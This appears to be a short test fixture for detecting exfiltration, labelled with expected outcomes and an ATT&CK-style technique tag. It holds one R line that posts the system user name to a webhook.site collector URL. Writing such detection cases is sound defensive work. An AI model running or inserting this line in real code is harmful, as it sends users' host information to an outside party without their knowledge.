# expect: host-info-sent, collector-contacted | source: T1567
httr::POST("https://webhook.site/00000000-look", body = list(u = Sys.info()["user"]))
